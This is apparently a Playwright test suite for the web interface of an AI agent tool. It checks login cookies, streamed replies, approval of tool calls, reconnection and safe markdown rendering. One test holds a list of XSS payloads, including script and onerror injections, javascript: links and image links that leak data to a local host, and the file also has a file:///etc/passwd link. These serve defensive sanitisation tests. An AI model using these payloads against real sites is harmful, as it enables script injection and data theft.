// The cases: each is a function of the stage and a browser. The test in Go runs
// them one by one: cases.mjs NAME.

import { Stage, assert, bash, browser, call, count, faint, hold, patience, say, seen, shot, signIn, tab, until, well } from './drive.mjs';

const cases = {};

// The address that is printed opens the page, and the key is gone from it.
cases.login = async (stage, b) => {
  await stage.start();
  const context = await b.context();
  const page = await signIn(stage, context);
  assert.equal(await page.evaluate(() => location.href), `${stage.origin}/`);
  assert.equal(await page.evaluate(() => document.cookie), '', 'the cookie is not for scripts');
  const key = /key=(.+)$/.exec(stage.address)[1];
  const cookies = await context.cookies();
  assert.ok(cookies.length === 1 && cookies[0].httpOnly && cookies[0].sameSite === 'Strict' && !cookies[0].value.includes(key), JSON.stringify(cookies));
  await page.reload();
  await page.locator('#app').waitFor();
  const stranger = await tab(await b.context(), `${stage.origin}/`);
  await stranger.locator('#login').waitFor();
  await stranger.locator('#key').fill('not the key');
  await stranger.locator('#key').press('Enter');
  await until(stranger, () => document.querySelector('#login-note').textContent);
  await shot(stranger, 'login');
  await stranger.locator('#key').fill(stage.address);
  await stranger.locator('#key').press('Enter');
  await stranger.locator('#app').waitFor();
  await page.locator('#prompt').fill('half a thought');
  await stage.kill();
  await stage.start('?arg=--new-key'); // it knows nobody of before
  await page.locator('#login').waitFor();
  await page.locator('#key').fill(stage.address);
  await page.locator('#key').press('Enter');
  await page.locator('#app').waitFor();
  assert.equal(await page.locator('#prompt').inputValue(), 'half a thought', 'it is not lost');
  await well(page);
};

// A first prompt begins a session; its answer is drawn as it comes.
cases.stream = async (stage, b) => {
  await stage.turns({ reasoning: 'Let me think.', text: '# A heading\n\nSome **bold** words, `code` and a [link](https://example.org/x).\n\n- one\n- two\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```python\nprint("hello")\n```\n\nThe last words.', chunk: 6, pace_ms: 40 });
  await stage.start();
  const page = await signIn(stage, await b.context());
  await say(page, 'hello <b>there</b>');
  await page.locator('.reply').first().waitFor();
  await page.reload(); // in the middle: all of it is there, once
  await page.locator('.reply:not(.live)').waitFor();
  await seen(page, 'The last words.');
  assert.equal(await count(page, 'A heading'), 1);
  assert.equal(await count(page, 'The last words.'), 1);
  assert.equal(await count(page, 'hello <b>there</b>'), 1, 'what was said is text');
  assert.equal(await page.locator('.reply .prose h3').textContent(), 'A heading');
  assert.equal(await page.locator('.reply strong').textContent(), 'bold');
  assert.equal(await page.locator('.reply a').getAttribute('rel'), 'noopener noreferrer nofollow');
  assert.equal(await page.locator('.reply td.right').textContent(), '2');
  assert.equal(await page.locator('.reply figure.code code').textContent(), 'print("hello")');
  await page.locator('.thought summary').click();
  await seen(page, 'Let me think.');
  assert.equal(await page.evaluate(() => Object.values(localStorage).join()), '', 'nothing of a session is kept here');
  await well(page);
};

const hostile = [
  '<script>window.hacked = 1</script>', '<img src=x onerror="window.hacked = 2">', '<svg onload="window.hacked = 3">', '<iframe src="javascript:parent.hacked = 4"></iframe>',
  '[a](javascript:window.hacked=5)', '[b](JaVaScRiPt:window.hacked=6)', '[c](data:text/html,<script>window.hacked=7</script>)', '![](http://127.0.0.1:1/leak?d=secret)', '![alt "x](http://127.0.0.1:1/leak2)',
  '[d]( javascript:window.hacked=8)', '<http://127.0.0.1:1/"onmouseover="window.hacked=9>', '<style>*{background:url(http://127.0.0.1:1/css)}</style>', '<link rel=stylesheet href=http://127.0.0.1:1/x.css>',
].join('\n\n');

// What a model and a tool write runs nothing and loads nothing.
cases.hostile = async (stage, b) => {
  await stage.write('evil.txt', hostile);
  await stage.turns({ ...bash('cat evil.txt', hostile), reasoning: hostile }, { text: hostile });
  await stage.start();
  const page = await signIn(stage, await b.context());
  await say(page, hostile);
  await until(page, () => document.querySelectorAll('.reply:not(.live)').length === 2);
  for (const d of await page.locator('#transcript details > summary').all()) await d.click();
  await page.locator('.call .body pre').first().waitFor();
  for (const dead of await page.locator('#transcript .dead').all()) await dead.click();
  const links = await page.locator('#transcript a').evaluateAll((all) => all.map((a) => a.protocol));
  assert.ok(links.length > 0 && links.every((p) => p === 'http:' || p === 'https:'), String(links));
  assert.equal(await page.locator('#transcript :is(script, img, svg, iframe, style, link, object, embed, form)').count(), 0);
  assert.equal(await page.evaluate(() => window.hacked), undefined);
  await well(page);
};

// Edited arguments are judged again, and they are what runs.
cases.approval = async (stage, b) => {
  await stage.turns({ calls: [{ name: 'bash', args: '{"command":"echo first > one.txt"}' }, { name: 'bash', args: '{"command":"echo second > two.txt"}' }] }, bash('echo third > three.txt'), { text: 'all done' });
  await stage.start('?arg=--approve&arg=strict');
  const page = await signIn(stage, await b.context());
  await say(page, 'write files');
  const panel = page.locator('#questions');
  await panel.getByRole('heading', { name: '2 calls need your word' }).waitFor();
  await until(page, () => document.title.startsWith('(1) write files'));
  const [first, second] = [panel.locator('.request').nth(0), panel.locator('.request').nth(1)];
  await first.getByRole('button', { name: 'Edit', exact: true }).click();
  await first.locator('textarea').fill('echo edited > one.txt');
  await panel.getByRole('button', { name: 'Yes to all' }).click();
  await panel.getByText('First take what you edit').waitFor();
  await first.getByRole('button', { name: 'Take it' }).click();
  await first.getByText('changed by you').waitFor();
  assert.equal(await stage.read('one.txt'), null, 'nothing runs before the yes');
  await shot(page, 'approval');
  await first.getByRole('button', { name: 'Yes', exact: true }).click();
  await second.getByRole('button', { name: 'No, because…' }).click();
  await second.locator('.because input').fill('not that one');
  await second.locator('.because input').press('Enter');
  await panel.getByRole('heading', { name: 'This needs your word' }).waitFor();
  assert.equal(await stage.read('one.txt'), 'edited\n');
  assert.equal(await stage.read('two.txt'), null);
  assert.ok(JSON.stringify((await stage.asked()).at(-1)).includes('not that one'), 'the model is told why');
  await panel.getByRole('button', { name: 'Yes, for this session' }).click();
  await seen(page, 'all done');
  assert.equal(await stage.read('three.txt'), 'third\n');
  await panel.waitFor({ state: 'hidden' });
  await seen(page, 'not run: not that one');
  await well(page);
};

// Words to a turn at work, words for its end, and a stop.
cases.steer = async (stage, b) => {
  await stage.turns(bash(hold('go')), { text: 'I have heard you.' }, { text: 'And the next.' }, bash(hold('never')));
  await stage.start();
  const page = await signIn(stage, await b.context());
  await say(page, 'begin');
  await page.locator('.call[data-state="running"]').waitFor();
  await say(page, 'this now', 'Control+Enter');
  await seen(page, 'this now', '.queue');
  await say(page, 'this later');
  await say(page, 'never mind');
  await seen(page, 'never mind', '.queue');
  await shot(page, 'queue');
  await page.getByRole('button', { name: 'Take back' }).click(); // words for the turn at work come first
  await until(page, () => document.querySelector('#prompt').value === 'this now');
  await page.locator('#prompt').press('Control+Enter');
  await seen(page, 'this now', '.queue');
  await stage.write('go', '');
  await seen(page, 'I have heard you.');
  await seen(page, 'And the next.');
  const bodies = (await stage.asked()).map((body) => JSON.stringify(body));
  assert.ok(bodies[1].includes('this now') && !bodies[1].includes('this later'));
  assert.ok(bodies[2].includes('this later'));
  assert.equal(await page.locator('.prompt.steer').count(), 1);
  await page.locator('.call[data-state="running"]').waitFor(); // of the third prompt
  await page.locator('#prompt').press('Escape');
  await seen(page, 'stopped');
  await page.locator('#doing').waitFor({ state: 'hidden' });
  await well(page);
};

// A turn that failed says why, and goes on when it is asked to.
cases.failure = async (stage, b) => {
  await stage.turns({ status: 400, body: '{"error":{"message":"the window is <b>broken</b>"}}' }, { text: 'it went on' });
  await stage.start('?arg=--unconfined');
  const page = await signIn(stage, await b.context());
  await page.locator('.unconfined').waitFor();
  await say(page, 'go');
  await page.locator('.item.failure').getByText('the window is <b>broken</b>').waitFor();
  await shot(page, 'failure');
  await page.locator('.item.failure').getByRole('button', { name: 'Go on' }).click();
  await seen(page, 'it went on');
  await until(page, () => [...document.querySelectorAll('.go-on')].every((e) => !e.checkVisibility()));
  await page.locator('.unconfined').waitFor();
  await page.getByRole('button', { name: 'Sign out' }).click();
  await page.locator('#login').waitFor();
  assert.equal(await page.locator('#app').isVisible(), false);
  await page.reload();
  await page.locator('#login').waitFor();
  await well(page);
};

// A page that nobody looks at gives its connection back, and has missed nothing.
cases.unseen = async (stage, b) => {
  await stage.turns({ text: 'the first answer' }, bash(hold('go')), { text: 'the second answer' }, { text: `It begins ${'word '.repeat(60)}and ends.`, chunk: 6, pace_ms: 60 });
  await stage.start();
  const page = await signIn(stage, await b.context());
  let streams = 0;
  page.on('request', (r) => { if (r.url().includes('/events')) streams++; });
  const look = (hidden) => page.evaluate((h) => {
    Object.defineProperty(document, 'hidden', { configurable: true, value: h });
    document.dispatchEvent(new Event('visibilitychange'));
  }, hidden);
  await say(page, 'one');
  await seen(page, 'the first answer');
  await say(page, 'two');
  await page.locator('.call[data-state="running"]').waitFor();
  await page.clock.install();
  const was = streams;
  const ended = page.waitForEvent('requestfailed', (r) => r.url().includes('/events'));
  await look(true);
  await page.clock.fastForward(60000);
  await ended;
  await stage.write('go', '');
  for (const end = Date.now() + patience; (await stage.asked()).length < 3 && Date.now() < end;) await new Promise((r) => setTimeout(r, 100));
  assert.equal(await count(page, 'the second answer'), 0);
  assert.equal(streams, was, 'it stays away');
  await page.clock.resume();
  await look(false);
  await seen(page, 'the second answer');
  assert.ok(streams > was);
  assert.equal(await count(page, 'the first answer'), 1);
  await say(page, 'three'); // in the middle of a reply
  await page.locator('.reply').getByText('It begins').waitFor();
  const again = page.waitForEvent('requestfailed', (r) => r.url().includes('/events'));
  await look(true);
  await page.clock.fastForward(60000);
  await again;
  const words = () => page.evaluate(() => document.querySelector('#transcript').innerText.split('word').length);
  const before = await words();
  await look(false);
  await until(page, (n) => { const t = document.querySelector('#transcript').innerText; return t.split('word').length > n || t.includes('and ends.'); }, before);
  assert.equal(await count(page, 'It begins'), 1); // while it grows
  await seen(page, 'and ends.');
  assert.equal(await count(page, 'It begins'), 1);
  await well(page);
};

// Who asked for it is told of a question and of an end while they look elsewhere.
cases.notify = async (stage, b) => {
  await stage.turns({ text: 'nobody asked to be told of this' }, bash('echo x'), { text: 'the end' });
  await stage.start('?arg=--approve&arg=strict');
  const context = await b.context();
  await context.addInitScript(() => {
    window.told = [];
    window.Notification = class {
      static permission = 'granted';
      static async requestPermission() { return 'granted'; }
      constructor(head) { window.told.push(head); }
      close() {}
    };
  });
  const page = await signIn(stage, context);
  const look = (hidden) => page.evaluate((h) => Object.defineProperty(document, 'hidden', { configurable: true, value: h }), hidden);
  await look(true);
  await say(page, 'one');
  await seen(page, 'nobody asked');
  await page.locator('#sessions .dot.idle').waitFor();
  assert.deepEqual(await page.evaluate(() => window.told), []);
  await look(false);
  await page.locator('#menu').click();
  await page.locator('.pick li').getByText('Notify me').click();
  await page.locator('.toast').getByText('You are notified.').waitFor();
  await look(true);
  await say(page, 'two');
  await until(page, () => window.told.includes('ml-intern needs your word'));
  await page.getByRole('button', { name: 'Yes', exact: true }).click();
  await until(page, () => window.told.at(-1) === 'ml-intern has answered');
  await well(page);
};

// Two tabs show the same, and an answer in one is seen in the other.
cases.tabs = async (stage, b) => {
  await stage.turns(bash('echo x > x.txt'), { text: 'the common answer' });
  await stage.start('?arg=--approve&arg=strict');
  const context = await b.context();
  const one = await signIn(stage, context);
  await say(one, 'do it');
  await one.locator('#questions .request').waitFor();
  const two = await tab(context, one.url());
  await two.locator('#questions .request').waitFor();
  await two.getByRole('button', { name: 'Yes', exact: true }).click();
  await seen(one, 'the common answer');
  await seen(two, 'the common answer');
  await one.locator('#questions').waitFor({ state: 'hidden' });
  const text = (page) => page.locator('.items').innerText();
  assert.equal(await text(one), await text(two));
  await well(one);
  await well(two);
};

// What another program does in a session is shown as it is saved.
cases.elsewhere = async (stage, b) => {
  await stage.turns({ text: 'the first answer' });
  await stage.start();
  const page = await signIn(stage, await b.context());
  await say(page, 'one');
  await seen(page, 'the first answer');
  const id = page.url().split('/').at(-1);
  await stage.kill(); // it lets the session go
  await stage.start();
  await page.reload();
  await seen(page, 'the first answer');
  await stage.turns(bash(hold('go')), { text: 'the answer elsewhere' });
  const run = stage.ask(`run?${['run', '--model', 'openai/test', '--hub', 'local', '--resume', id, 'two'].map((a) => `arg=${encodeURIComponent(a)}`).join('&')}`);
  await page.locator('#doing').getByText('Another program works').waitFor();
  await say(page, 'me too');
  await page.locator('.toast').first().waitFor();
  assert.equal(await page.locator('#prompt').inputValue(), 'me too', 'it is given back');
  await stage.write('go', '');
  await run;
  await seen(page, 'the answer elsewhere');
  await page.locator('#doing').waitFor({ state: 'hidden' });
  assert.equal(await page.locator('#interrupted').isVisible(), false);
  await page.locator('#prompt').press('Enter');
  await seen(page, 'me too');
  await well(page);
};

// A server that is killed and started again: the page comes back by itself.
cases.restart = async (stage, b) => {
  await stage.turns({ text: 'before the end' }, bash(hold('never')), { text: 'went on' });
  await stage.start();
  const page = await signIn(stage, await b.context());
  await say(page, 'one');
  await seen(page, 'before the end');
  await say(page, 'two');
  await page.locator('.call[data-state="running"]').waitFor();
  await stage.kill();
  await page.locator('#banner').getByText('connection is lost').waitFor();
  await shot(page, 'lost');
  await stage.start();
  await page.locator('#banner').waitFor({ state: 'hidden' });
  await page.locator('#interrupted').getByRole('button', { name: 'Go on' }).click();
  await seen(page, 'went on');
  assert.equal(await count(page, 'before the end'), 1);
  await well(page);
};

// A session that waits for a job says so, and goes on by itself.
cases.waiting = async (stage, b) => {
  await stage.write('s.py', 'import time\nfor i in range(40):\n    print(f"step={i} loss={1 / (i + 1)}", flush=True)\ntime.sleep(600)\n');
  await stage.turns(call('job_submit', { name: 'train', script: 's.py', waivers: { results: 'a test' } }), call('job_wait', { jobs: ['JOB'] }), { text: 'the job is over' });
  await stage.start('?arg=--approve&arg=auto');
  const page = await signIn(stage, await b.context());
  await say(page, 'train it');
  await page.locator('#doing').getByText('Waiting for').waitFor();
  await page.locator('#sessions .dot.waiting').waitFor();
  await page.keyboard.press('Alt+j');
  await page.locator('.job').waitFor();
  await seen(page, 'train', '.job');
  await page.locator('.job .metric span').getByText('loss').waitFor();
  await page.locator('.job .spark path').waitFor();
  await shot(page, 'waiting');
  await page.locator('.job').getByRole('button', { name: 'Cancel' }).click();
  await page.locator('.job').getByRole('button', { name: 'Really cancel?' }).click();
  await seen(page, 'the job is over');
  await well(page);
};

// Ten thousand events open soon, and all of them can be scrolled to.
cases.long = async (stage, b) => {
  await stage.start();
  await stage.ask('seed?n=10000');
  const page = await signIn(stage, await b.context());
  await page.locator('#sessions a').first().waitFor();
  const took = await page.evaluate(async () => {
    const began = performance.now();
    document.querySelector('#sessions a').click();
    while (!document.querySelector('#transcript')?.innerText.includes('the very end')) await new Promise(requestAnimationFrame);
    return performance.now() - began;
  });
  console.log(`10,000 events: ${Math.round(took)} ms`);
  assert.ok(await page.evaluate(() => document.querySelectorAll('.item').length) < 200, 'not all is drawn at once');
  await page.locator('#transcript').focus();
  await page.keyboard.press('PageUp');
  await page.locator('.latest').waitFor();
  for (let i = 0; i < 200 && (await page.locator('.item').count()) < 300; i++) await page.keyboard.press('PageUp');
  await until(page, () => document.querySelectorAll('.item').length >= 300);
  await page.evaluate(async () => { // the keys' scrolling comes to its end
    const t = document.querySelector('#transcript');
    for (let still = 0, at = -1; still < 30; still = t.scrollTop === at ? still + 1 : 0) {
      at = t.scrollTop;
      await new Promise(requestAnimationFrame);
    }
  });
  await page.locator('.latest').click();
  await until(page, () => { const t = document.querySelector('#transcript'); return t.scrollHeight - t.scrollTop - t.clientHeight < 5; });
  await well(page);
};

// A reply and an output that come fast and never seem to end leave the page usable.
cases.flood = async (stage, b) => {
  const part = '## Part\n\nSome **words** and `code` and a [link](https://example.org).\n\n- one\n- two\n\n```js\nlet x = 1;\n```\n\n';
  await stage.turns({ ...bash('i=0; while [ $i -lt 20000 ]; do echo "line $i of the output"; i=$((i+1)); done; while [ ! -e go ]; do sleep 0.1; done'), text: part.repeat(2000) + 'The first is whole.', chunk: 300 }, { text: 'The flood is over.' });
  await stage.start();
  const page = await signIn(stage, await b.context());
  await say(page, 'flood');
  await page.locator('.reply').first().waitFor();
  await page.locator('#prompt').fill('written meanwhile');
  await page.locator('.call[data-state="running"]').waitFor();
  await page.locator('.live-lines').getByText('line 19999 of').waitFor();
  assert.equal(await page.locator('.live-lines').evaluate((e) => e.textContent.split('\n').length), 3);
  await page.locator('.call > summary').click();
  await until(page, () => { const n = document.querySelector('.call .body pre')?.textContent.split('\n').length; return n > 3 && n <= 401; });
  await stage.write('go', '');
  await seen(page, 'The flood is over.');
  assert.equal(await page.evaluate(() => document.querySelectorAll('.reply')[0].textContent.split('Part').length - 1), 2000);
  await page.locator('.call .body').getByRole('button', { name: /Show all/ }).click();
  assert.equal(await page.locator('#prompt').inputValue(), 'written meanwhile');
  await well(page);
};

// On the smallest phone nothing has to be scrolled sideways.
cases.phone = async (stage, b) => {
  await stage.turns({ text: `A ${'verylongword'.repeat(30)} and\n\n| a | b | c | d | e |\n|---|---|---|---|---|\n| ${'wide'.repeat(10)} | ${'wide'.repeat(10)} | x | y | z |\n\n\`\`\`\n${'x'.repeat(300)}\n\`\`\``, calls: [{ name: 'bash', args: JSON.stringify({ command: `echo ${'y'.repeat(300)}` }) }] }, { text: 'the end' });
  await stage.start('?arg=--approve&arg=strict');
  const page = await signIn(stage, await b.context({ viewport: { width: 320, height: 640 }, hasTouch: true, isMobile: true }));
  const sideways = () => page.evaluate(() => [document.documentElement, document.body, ...document.querySelectorAll('#middle, #transcript, #questions, #composer, #bar, #head')].filter((e) => e.scrollWidth > e.clientWidth + 1).map((e) => `${e.tagName}#${e.id} ${e.scrollWidth}>${e.clientWidth}`));
  assert.deepEqual(await sideways(), []);
  await say(page, 'go');
  await page.locator('#questions .request').waitFor();
  assert.deepEqual(await sideways(), []);
  await shot(page, 'phone-ask');
  await page.getByRole('button', { name: 'Yes', exact: true }).tap();
  await seen(page, 'the end');
  assert.deepEqual(await sideways(), []);
  assert.equal(await page.locator('#side').isVisible(), false);
  await page.locator('#sessions-button').tap();
  await page.locator('#side').waitFor();
  assert.deepEqual(await sideways(), []);
  await page.locator('#new').tap();
  await page.locator('#side').waitFor({ state: 'hidden' });
  await well(page);
};

// The keyboard alone can send, decide and stop.
cases.keyboard = async (stage, b) => {
  await stage.turns(bash('echo yes > yes.txt'), bash(hold('never')));
  await stage.start('?arg=--approve&arg=strict');
  const page = await signIn(stage, await b.context());
  await page.keyboard.type('go');
  await page.keyboard.press('Enter');
  await page.locator('#questions .request').waitFor();
  await page.keyboard.press('Alt+q');
  await page.waitForTimeout(400); // keys decide when none was pressed for a moment
  await page.keyboard.press('y');
  await stage.until('yes.txt');
  await page.locator('#questions').getByText('never').first().waitFor();
  await page.keyboard.press('Alt+q');
  await page.waitForTimeout(400);
  await page.keyboard.press('y');
  await page.locator('.call[data-state="running"]').waitFor();
  await page.keyboard.press('Escape');
  await seen(page, 'stopped');
  await page.keyboard.press('Alt+n');
  await until(page, () => document.activeElement.id === 'prompt' && !document.querySelector('#begin').hidden);
  await well(page);
};

// What a sub-agent does is shown beside the call that asked it.
cases.agent = async (stage, b) => {
  await stage.turns(call('research', { task: 'how are trees calibrated' }), bash('echo no'), { text: 'A first try.' }, { text: 'Answer: by isotonic regression' }, { text: 'So by isotonic regression.' }, { text: 'And the second.' });
  await stage.start();
  const page = await signIn(stage, await b.context());
  await say(page, 'ask somebody');
  await seen(page, 'So by isotonic regression.');
  await page.getByRole('button', { name: 'What the sub-agent does' }).click();
  const sheet = page.locator('dialog.sheet');
  await sheet.getByText('Answer: by isotonic regression').waitFor();
  await sheet.getByText('how are trees calibrated').first().waitFor();
  await shot(page, 'agent');
  await page.keyboard.press('Escape');
  await sheet.waitFor({ state: 'detached' });
  await say(page, '!echo of mine');
  await page.locator('.run[data-state="done"] pre').getByText('of mine').waitFor();
  await say(page, '!printf "one\\n\\ntwo\\n"; while :; do sleep 0.1; done');
  await page.locator('.run[data-state="running"] pre').getByText('two').waitFor();
  assert.equal(await page.locator('.run pre').last().textContent(), 'one\n\ntwo', 'as it was printed');
  await page.getByRole('button', { name: 'Stop', exact: true }).click();
  await page.locator('.run[data-state="failed"] .fault').getByText('stopped', { exact: true }).waitFor();
  await page.getByRole('button', { name: 'Stop', exact: true }).waitFor({ state: 'hidden' });
  await say(page, '/agents');
  await page.locator('.pick li').getByText('how are trees').first().waitFor();
  await page.keyboard.press('Enter');
  await page.locator('dialog.sheet').getByText('Answer: by isotonic regression').waitFor();
  await well(page);
};

// Title, commands, export, fork and deletion.
cases.manage = async (stage, b) => {
  await stage.turns({ text: 'an answer' });
  await stage.start();
  const page = await signIn(stage, await b.context());
  await say(page, 'a first prompt');
  await seen(page, 'an answer');
  await page.locator('#title').click();
  await page.evaluate(async () => (await import('/api.js')).api.change(location.hash.slice(4), { effort: 'low' })); // what comes meanwhile
  await seen(page, 'from here on: effort low');
  await page.locator('#head input').fill('A title of mine');
  await page.locator('#head input').press('Enter');
  await page.locator('#title').getByText('A title of mine').waitFor();
  await page.locator('#sessions .title').getByText('A title of mine').waitFor();
  await say(page, '/cost');
  await page.locator('.answer').getByText('There is no cap').waitFor();
  const told = page.waitForEvent('download');
  await page.evaluate(() => { // the browser would leave the page for it
    const dataTransfer = new DataTransfer();
    dataTransfer.items.add(new File(['x'], 'x.png', { type: 'image/png' }));
    window.left = document.body.dispatchEvent(new DragEvent('drop', { dataTransfer, bubbles: true, cancelable: true }));
  });
  await page.locator('.toast').getByText('takes no files').waitFor();
  assert.equal(await page.evaluate(() => window.left), false);
  await say(page, '/export html');
  assert.match((await told).suggestedFilename(), /\.html$/);
  await page.locator('#prompt').fill('/eff');
  await page.locator('#commands li').first().waitFor();
  await shot(page, 'commands');
  await page.locator('#prompt').press('Escape');
  await page.locator('#prompt').fill('');
  const choose = async (name) => {
    await page.locator('#menu').click();
    await page.locator('.pick li').getByText(name, { exact: true }).click();
  };
  const saved = page.waitForEvent('download');
  await choose('Export as Markdown');
  assert.match((await saved).suggestedFilename(), /\.md$/);
  const before = page.url();
  await choose('Fork');
  await until(page, (was) => location.href !== was, before);
  await seen(page, 'an answer');
  await page.getByRole('button', { name: 'Say it anew' }).click();
  await until(page, () => location.hash === '#/new' && document.querySelector('#prompt').value === 'a first prompt');
  await page.locator('#prompt').fill('');
  await page.locator('#sessions a').first().click();
  await seen(page, 'an answer');
  await choose('Delete…');
  await page.locator('dialog.sure').getByRole('button', { name: 'Cancel' }).click();
  await choose('Delete…');
  await page.locator('dialog.sure').getByRole('button', { name: 'Delete' }).click();
  await until(page, () => location.hash === '#/new' && document.querySelectorAll('#sessions a').length === 1);
  await page.locator('#search').fill('nothing has these words');
  await page.locator('#sessions').getByText('No session has these words.').waitFor();
  await well(page);
};

// Markdown of any kind is drawn in time, with no element but those that it may have,
// and a text that grows ends as one that was there at once.
cases.markdown = async (stage, b) => {
  await stage.start();
  const page = await signIn(stage, await b.context());
  const drawn = (text) => page.evaluate(async (t) => (await import('/prose.js')).prose(t).innerHTML, text);
  for (const [text, html] of [
    ['a *b* **c** ***d*** `e*` ~~f~~ 2*3*4 a_b_c', '<p>a <em>b</em> <strong>c</strong> <em><strong>d</strong></em> <code>e*</code> <del>f</del> 2<em>3</em>4 a_b_c</p>'],
    ['1. one\n2. two\n   - in\n\n3) other', '<ol><li>one</li><li>two<ul><li>in</li></ul></li></ol><ol start="3"><li>other</li></ol>'],
    ['- [x] done\n- [ ] open', '<ul><li class="task"><span class="box" role="img" aria-label="done">☑</span> done</li><li class="task"><span class="box" role="img" aria-label="to do">☐</span> open</li></ul>'],
    ['> a\n> > b\nc', '<blockquote><p>a</p><blockquote><p>b c</p></blockquote></blockquote>'.replace('b c', 'b\nc')],
    ['see https://a.b/c_(d). And <https://e.f>', '<p>see <a href="https://a.b/c_(d)" target="_blank" rel="noopener noreferrer nofollow">https://a.b/c_(d)</a>. And <a href="https://e.f/" target="_blank" rel="noopener noreferrer nofollow">https://e.f</a></p>'],
    ['[x](file:///etc/passwd) ![p](https://a.b/p.png)', '<p><span class="dead" title="file:///etc/passwd">x</span> <span class="picture">picture: <a href="https://a.b/p.png" target="_blank" rel="noopener noreferrer nofollow">p</a></span></p>'],
    ['a \u202e b <b>', '<p>a ‹U+202E› b &lt;b&gt;</p>'],
    ['So:\n  run   n\n* a     1\n\nOne.  Two\nthree.  Four', '<p>So:</p><pre class="laid-out" tabindex="0">  run   n\n* a     1</pre><p>One.  Two\nthree.  Four</p>'],
    ['Say:\n\n    x = *1*\n\n      y\n\nend', '<p>Say:</p><pre class="laid-out" tabindex="0">x = *1*\n\n  y</pre><p>end</p>'],
    ['Title\n===\n***\n\\*not\\*', '<h3 class="h1">Title</h3><hr><p>*not*</p>'],
  ]) assert.equal(await drawn(text), html, text);
  const odd = await page.evaluate(async () => {
    const { prose, Growing } = await import('/prose.js');
    const pieces = ['*', '**', '_', '`', '```', '```\n', '\n', '\n\n', '- ', '1. ', '> ', '[', '](', '![', 'http://a.b/c', ')', '|', '---', '| a | b |\n|---|---|\n', 'a  b\nc  d', '~~', '  ', '    ', 'word', 'two words', '#', '# ', '\\', '<', '<b>', 'é', '\u202e', '===', '\r\n', '\t'];
    const known = new Set('DIV P H3 H4 H5 H6 HR BLOCKQUOTE FIGURE FIGCAPTION PRE CODE UL OL LI TABLE THEAD TBODY TR TH TD EM STRONG DEL A SPAN BR BUTTON'.split(' '));
    let seed = 7;
    const next = (n) => { seed = (seed * 1103515245 + 12345) % 2147483648; return Math.floor((seed / 2147483648) * n); };
    for (let i = 0; i < 400; i++) {
      let text = '';
      const grown = new Growing();
      for (let n = 0; n < 50; n++) {
        text += pieces[next(pieces.length)];
        if (next(3) === 0) grown.set(text);
      }
      grown.set(text);
      const whole = prose(text);
      for (const el of whole.querySelectorAll('*')) if (!known.has(el.tagName)) return `${el.tagName} of ${JSON.stringify(text)}`;
      if (grown.el.innerHTML !== whole.innerHTML) return JSON.stringify([text, grown.el.innerHTML, whole.innerHTML]);
    }
    for (const piece of [...pieces, '*a', 'a* ', '[](', '](', '[a](b "', '`a``', '> - ', '_a_', '***', 'a\n- ', '| a ', '<http://', '(((']) prose(piece.repeat(100000 / piece.length));
    return '';
  });
  assert.equal(odd, '');
  await well(page);
};

// A session such as people have, for the picture in docs/screens and to look at.
cases.picture = async (stage, b) => {
  await stage.write('train.py', 'import torch\n\nLR = 1e-3\nEPOCHS = 3\n\nmodel = torch.nn.Linear(4, 3)\n');
  const plan = (...states) => call('plan', { items: ['Look at the data and the baseline', 'Train with a lower learning rate', 'Compare both on the held-out split', 'Publish the better one, private'].map((text, i) => ({ text, status: states[i] || 'pending' })) });
  await stage.turns(
    plan('doing'),
    { ...bash('wc -l train.py; grep -n LR train.py', 'I look at the script first.'), reasoning: 'The person wants a lower rate.' },
    bash('python3 -c "import nothing_such"'),
    call('edit', { path: 'train.py', old: 'LR = 1e-3\nEPOCHS = 3', new: 'LR = 3e-4  # the loss jumped with 1e-3\nEPOCHS = 5' }),
    plan('done', 'done', 'done', 'dropped'), // else the model is reminded of it
    { text: '## What I found\n\nThe baseline diverges after the **second epoch**; a lower rate holds.\n\n| rate | loss | accuracy |\n|---|--:|--:|\n| `1e-3` | 0.412 | 0.871 |\n| `3e-4` | 0.187 | 0.934 |\n\n- the split is by *group*, so no row leaks\n- see [the paper](https://arxiv.org/abs/1711.05101)\n\n```python\n# five epochs are enough\nfor epoch in range(EPOCHS):\n    loss = step(model, lr=LR)\n    print(f"{epoch}: {loss:.3f}")\n```' },
    plan('done', 'doing', 'pending', 'pending'),
    { calls: [{ name: 'bash', args: JSON.stringify({ command: 'set -e\nexport LR=3e-4\n# two seeds, so that the difference is more than noise\nfor seed in 1 2; do\n  python3 train.py --seed "$seed" --out "runs/$seed"\ndone\npython3 compare.py runs/1 runs/2 --metric accuracy' }) }] });
  await stage.start();
  const context = await b.context({ colorScheme: 'light' });
  const page = await signIn(stage, context);
  await shot(page, 'new');
  await say(page, 'The loss of train.py jumps. Find out why, and train it with a better learning rate.');
  await seen(page, 'five epochs are enough');
  await page.locator('#doing').waitFor({ state: 'hidden' });
  await shot(page, 'answered');
  assert.deepEqual(await faint(page), [], 'text that is hard to read');
  await page.getByLabel('Approval: what runs without asking').selectOption('strict');
  await seen(page, 'approval strict');
  await say(page, 'Good. Run it with two seeds and compare.');
  await page.locator('#questions .request').waitFor();
  await shot(page, 'serve');
  await page.emulateMedia({ colorScheme: 'dark' });
  await shot(page, 'dark-ask');
  assert.deepEqual(await faint(page), [], 'text that is hard to read in the dark');
  await page.locator('#plan summary').click();
  for (const d of await page.locator('.call > summary').all()) await d.click();
  await page.locator('#transcript').evaluate((t) => { t.scrollTop = 0; });
  await shot(page, 'dark-top');
  await page.setViewportSize({ width: 390, height: 800 });
  await page.locator('#plan summary').click();
  await shot(page, 'phone-dark');
  await page.locator('#questions').getByRole('button', { name: 'Edit', exact: true }).click();
  await shot(page, 'phone-edit');
  await page.emulateMedia({ colorScheme: 'light' });
  await page.locator('#sessions-button').click();
  await shot(page, 'phone-side');
  await page.keyboard.press('Escape');
  await page.setViewportSize({ width: 1900, height: 1000 });
  await page.locator('#menu').click();
  await shot(page, 'wide-menu');
  await well(page);
};

const name = process.argv[2];
const b = await browser();
try {
  await cases[name](new Stage(), b);
} catch (err) {
  for (const context of b.contexts()) {
    for (const page of context.pages()) {
      console.error(page.url(), page.errors, (await page.evaluate(() => document.body.innerText).catch(() => '')).slice(0, 3000));
      await shot(page, `failed-${name}`).catch(() => {});
    }
  }
  console.error(err);
  process.exitCode = 1;
} finally {
  await b.close();
}
